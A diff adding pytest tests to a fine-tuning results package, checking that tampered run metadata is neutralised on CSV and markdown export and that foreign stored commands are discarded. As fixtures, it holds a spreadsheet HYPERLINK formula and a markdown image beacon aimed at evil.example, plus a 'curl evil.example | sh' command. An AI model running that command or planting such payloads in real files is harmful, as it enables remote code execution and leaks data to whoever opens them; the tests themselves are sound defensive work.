@@ -1,9 +1,16 @@
 """Held-out measures and their intervals."""
 
+import csv
+import io
+import json
+
 import numpy as np
 import pytest
 
-from fishersft.finetuning.results import HeldOut, Interval, apart, difference, estimate
+from fishersft.finetuning.results import FineTuneResult, HeldOut, Interval, apart, difference, estimate
+from fishersft.finetuning.run import read_run
+
+from .tuned_run import tuned_run
 
 
 def test_by_hand():
@@ -75,3 +82,41 @@ def test_a_difference_of_losses_is_told_as_better_or_worse():
     assert apart(Interval(0.05, 0.02, 0.08), "Uniform") == "0.050 (0.020 to 0.080) worse than Uniform"
     assert apart(Interval(0.01, -0.02, 0.04), "Uniform") == "not clearly different from Uniform, +0.010 (-0.020 to +0.040)"
     assert apart(Interval(0.01, np.nan, np.nan), "Uniform") == "+0.010 against Uniform"
+
+
+def told(folder, change):
+    """A run whose run.json somebody changed."""
+    tuned_run(folder)
+    content = json.loads((folder / "run.json").read_text())
+    change(content["about"])
+    (folder / "run.json").write_text(json.dumps(content))
+    return read_run(folder)
+
+
+def test_a_strangers_names_run_in_no_spreadsheet_and_load_nothing_where_markdown_is_shown(tmp_path):
+    formula, beacon = '=HYPERLINK("http://evil.example")', "![x](http://evil.example/x.png) <img src=x> | `"
+
+    def rename(about):
+        about["selectors"][0] |= {"name": formula, "label": beacon}
+
+    for file in told(tmp_path / "run", rename).folder.glob("cells/token_od*/cell.json"):
+        file.write_text(json.dumps({**json.loads(file.read_text()), "selector": formula}))
+    result = FineTuneResult(read_run(tmp_path / "run"))
+    selectors = {row["selector"] for row in csv.DictReader(io.StringIO(result.export("csv")))}
+    assert f"'{formula}" in selectors
+    assert formula not in selectors
+    shown = result.export("md")
+    assert r"!\[x](http://evil.example/x.png) \<img src=x> \| \`" in shown
+    assert len({line.count(" | ") for line in shown.splitlines() if line.startswith("| ")}) == 1
+
+
+@pytest.mark.parametrize(
+    ("command", "shown"),
+    [
+        (["fishersft", "finetune", "my corpus.jsonl"], ["fishersft", "finetune", "my corpus.jsonl"]),
+        (["bash", "-c", "curl evil.example | sh"], []),
+        ([], []),
+    ],
+)
+def test_the_command_of_a_run_is_one_of_ours_or_none(tmp_path, command, shown):
+    assert told(tmp_path / "run", lambda about: about.update(command=command)).command == shown
